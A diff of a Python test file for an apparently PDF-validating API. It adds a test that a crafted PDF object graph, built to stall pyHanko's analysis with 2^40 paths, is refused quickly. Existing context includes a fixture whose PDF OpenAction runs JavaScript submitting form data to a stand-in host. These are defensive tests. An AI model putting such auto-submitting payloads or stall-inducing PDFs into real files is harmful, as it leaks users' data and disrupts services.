@@ -11,7 +11,7 @@ import pytest
 
 from tests.api.conftest import Api, Logins
 from tests.api.support import DRAFT_FIELDS, assert_error, drafted, stored
-from tests.support.pdfs import page_count_pdf, pdf_with, shared_kids_pdf
+from tests.support.pdfs import page_count_pdf, pdf_from_objects, pdf_with, shared_kids_pdf
 
 JS_OPEN_ACTION = pdf_with(
     b"/OpenAction << /S /JavaScript /JS (this.submitForm('https://thu-thap.test/');) >>"
@@ -102,3 +102,20 @@ def test_validate_reports_active_content_in_json_and_html(shared_api: Api,
 def test_a_go_to_page_one_open_action_is_accepted(login: Logins) -> None:
     r = _draft(login("official_a"), "", pdf_with(b"/OpenAction [3 0 R /Fit]"))
     assert r.status_code == 201, r.text
+
+
+def test_an_object_graph_that_would_stall_the_seal_is_refused_as_a_draft(
+    shared_api: Api, login: Logins
+) -> None:
+    # Inert, but pyHanko's diff analysis after numbering would map 2^40 paths.
+    bodies = [b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>",
+              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
+    bodies += [f"[{5 + i} 0 R {5 + i} 0 R]".encode() for i in range(40)]
+    bodies.append(b"<< /Title (inert) >>")
+    before = stored(shared_api)
+    started = time.perf_counter()
+    r = _draft(login("official_a"), "", pdf_from_objects(bodies))
+    assert time.perf_counter() - started < 1.0
+    assert_error(r, 422, "pdf_too_complex")
+    assert stored(shared_api) == before
